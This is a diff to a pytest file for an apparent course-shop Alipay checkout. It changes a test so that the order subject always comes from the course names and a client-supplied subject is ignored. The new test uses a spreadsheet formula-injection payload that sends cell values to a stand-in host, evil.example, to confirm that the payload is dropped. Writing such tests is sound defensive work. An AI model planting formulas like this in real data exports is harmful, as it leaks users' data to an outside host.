@@ -202,13 +202,20 @@ def test_wechat_is_reserved_not_offered(alipay, place, course):
     assert response.status_code == 400 and "pay_type" in response.json()["errors"]
 
 
-def test_subject_defaults_to_course_names_and_client_subject_is_kept(alipay, place):
+def test_the_subject_is_the_course_names_whatever_the_client_sends(alipay, place):
     a, b = (
         CourseFactory(name="甲", price=Decimal("1")),
         CourseFactory(name="乙", price=Decimal("2")),
     )
-    assert place([a, b], "3")[1].subject == "甲、乙"
-    assert place([a], "1", subject="我的订单")[1].subject == "我的订单"
+    formula = '=HYPERLINK("https://evil.example/?"&D2&D3,"查看")'
+
+    response, order = place([a, b], "3", subject=formula)
+
+    assert response.status_code == 201  # the tutorial's field is still accepted
+    assert order.subject == "甲、乙"
+    biz = json.loads(dict(parse_qsl(urlsplit(response.json()["pay_url"]).query))["biz_content"])
+    assert biz["subject"] == "甲、乙"  # what Alipay's page shows the buyer
+    assert place([a], "1", subject="我的订单")[1].subject == "甲"
 
 
 @pytest.mark.parametrize("header", ["Bearer {}", "jwt {}"])
